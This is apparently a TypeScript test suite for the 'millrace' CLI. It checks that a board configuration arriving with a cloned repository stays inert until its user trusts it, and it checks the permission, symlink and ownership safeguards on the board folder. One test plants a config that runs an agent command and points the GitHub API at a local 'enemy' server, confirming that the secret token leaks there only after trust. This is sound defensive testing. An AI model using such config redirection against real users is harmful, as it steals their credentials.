import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, chown, readFile, rename, stat, symlink, writeFile } from "node:fs/promises";
import { createServer, type IncomingMessage, type Server } from "node:http";
import { describe, expect, it } from "vitest";
import { createRepository, type CommandResult, type Sandbox } from "./sandbox.fixture.js";

const SECRET = "s3cr3t-of-the-user";

/** Stands for a host of the enemy: keeps the requests it gets. */
async function enemy(): Promise<AsyncDisposable & { readonly url: string; readonly requests: IncomingMessage[] }> {
  const requests: IncomingMessage[] = [];
  const server: Server = createServer((request, response) => {
    requests.push(request);
    response.writeHead(404, { "content-type": "application/json" }).end("{}");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const url = `http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`;
  return {
    url,
    requests,
    [Symbol.asyncDispose]: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

async function edit(sandbox: Sandbox, change: object): Promise<void> {
  const path = sandbox.path(".millrace", "config.json");
  await writeFile(path, JSON.stringify({ ...(JSON.parse(await readFile(path, "utf8")) as object), ...change }));
}

const failsWith = (code: string): CommandResult => ({ code: 7, stdout: "", stderr: expect.stringContaining(`"code":"${code}"`) as string });
const permissions = async (path: string): Promise<number> => (await stat(path)).mode & 0o777;

describe("a board that came with a repository", () => {
  it("H:S8 starts nothing and sends nothing before its user trusts it", async () => {
    await using host = await enemy();
    await using sandbox = await createRepository({ "readme.md": "sample\n" }, { WANTED: SECRET });
    const canary = sandbox.path("canary");
    // What its agent does is seen outside: that it runs at all is the question.
    await sandbox.cli("sandbox", "none", "--yes");
    await sandbox.cli("init", "--no-ci", "--agent", `touch "${canary}"`);
    const github = { tokenEnv: "WANTED", apiUrl: host.url, webUrl: host.url, pollMs: 1000 };
    await edit(sandbox, { repository: { forge: "github", id: "acme/shop", base: "main", github } });
    // As it comes out of an archive: the same files, at a place that no init made.
    await rename(sandbox.path(".millrace"), sandbox.path("packed"));
    await sandbox.git("clone", "--quiet", sandbox.folder, "clone");
    await rename(sandbox.path("packed"), sandbox.path("clone", ".millrace"));

    const doctor = await sandbox.cliIn("clone", "doctor");
    expect(doctor).toMatchObject({ code: 7, stdout: expect.stringContaining("millrace trust") as string });
    for (const command of [["run"], ["work"], ["tasks"], ["settings"], ["task", "add", "x"]])
      expect(await sandbox.cliIn("clone", ...command, "--json")).toEqual(failsWith("board_untrusted"));
    expect([existsSync(canary), host.requests.length]).toEqual([false, 0]);

    // The same board, trusted, does all of it: the attack was there.
    expect(await sandbox.cliIn("clone", "trust")).toMatchObject({
      code: 0,
      stdout: expect.stringContaining(`WANTED, for 127.0.0.1`) as string,
    });
    await sandbox.cliIn("clone", "doctor");
    expect(existsSync(canary)).toBe(true);
    expect(host.requests.some(({ headers }) => headers.authorization?.includes(SECRET))).toBe(true);
  }, 120_000);

  it("H:S8 is refused when git tracks it, also by trust", async () => {
    await using sandbox = await createRepository();
    await sandbox.cli("init", "--no-ci");
    await sandbox.git("add", "--force", ".millrace/config.json");
    await sandbox.commit("Share the board");
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_unsafe"));
    await sandbox.git("clone", "--quiet", sandbox.folder, "clone");
    expect(await sandbox.cliIn("clone", "tasks", "--json")).toEqual(failsWith("board_untrusted"));
    expect(await sandbox.cliIn("clone", "trust", "--json")).toEqual(failsWith("board_unsafe"));
  }, 120_000);

  it("H:S8 in the place of a trusted board is another board", async () => {
    await using sandbox = await createRepository();
    await sandbox.cli("init", "--no-ci");
    await edit(sandbox, { workspaceId: "ws_another" });
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_untrusted"));
  }, 120_000);

  it("H:S8 gets a secret for the hosts that its user saw, and for no other", async () => {
    await using host = await enemy();
    await using sandbox = await createRepository({ "readme.md": "sample\n" }, { WANTED: SECRET });
    await sandbox.cli("init", "--no-ci");
    const inline = { provider: "openai", model: "m", apiKeyEnv: "WANTED" };
    await edit(sandbox, { inline });
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_untrusted"));
    expect((await sandbox.cli("trust")).stdout).toContain("WANTED, for api.openai.com");
    expect((await sandbox.cli("tasks")).code).toBe(0);
    await edit(sandbox, { inline: { ...inline, baseUrl: host.url } });
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_untrusted"));
    await edit(sandbox, { inline: { ...inline, baseUrl: "http://198.51.100.7/v1" } });
    expect(await sandbox.cli("trust", "--json")).toMatchObject({ code: 3, stderr: expect.stringContaining("config_invalid") as string });
  }, 120_000);

  it("H:S8 is not trusted by an agent", async () => {
    await using sandbox = await createRepository({ "readme.md": "sample\n" }, { MILLRACE_JOB_KEY: "run_1/0/1/work.1" });
    await sandbox.cli("init", "--no-ci");
    expect(await sandbox.cli("trust", "--json")).toMatchObject({ code: 8, stderr: expect.stringContaining("forbidden_actor") as string });
  }, 120_000);
});

describe("the folder of a board", () => {
  it("H:S8 is for its user alone, also when it was opened to others", async () => {
    await using sandbox = await createRepository();
    await sandbox.cli("init", "--no-ci");
    const modes = async (): Promise<readonly number[]> =>
      Promise.all([
        permissions(sandbox.path(".millrace")),
        ...["config.json", "millrace.db"].map((name) => permissions(sandbox.path(".millrace", name))),
      ]);
    expect(await modes()).toEqual([0o700, 0o600, 0o600]);
    await chmod(sandbox.path(".millrace"), 0o755);
    await chmod(sandbox.path(".millrace", "millrace.db"), 0o644);
    expect((await sandbox.cli("tasks")).code).toBe(0);
    expect(await modes()).toEqual([0o700, 0o600, 0o600]);
  }, 120_000);

  it("H:S8 is refused when others may write it, or a link or a pipe is in its place", async () => {
    await using sandbox = await createRepository();
    await sandbox.cli("init", "--no-ci");
    await chmod(sandbox.path(".millrace"), 0o770);
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_unsafe"));
    await chmod(sandbox.path(".millrace"), 0o700);
    await rename(sandbox.path(".millrace", "config.json"), sandbox.path("real.json"));
    await symlink(sandbox.path("real.json"), sandbox.path(".millrace", "config.json"));
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_unsafe"));
    execFileSync("rm", [sandbox.path(".millrace", "config.json")]);
    execFileSync("mkfifo", [sandbox.path(".millrace", "config.json")]);
    expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_unsafe"));
  }, 120_000);

  it.skipIf(process.getuid?.() !== 0)(
    "H:S8 is refused when it belongs to another user",
    async () => {
      await using sandbox = await createRepository();
      await sandbox.cli("init", "--no-ci");
      await chown(sandbox.path(".millrace"), 12_345, 12_345);
      expect(await sandbox.cli("tasks", "--json")).toEqual(failsWith("board_unsafe"));
    },
    120_000,
  );
});
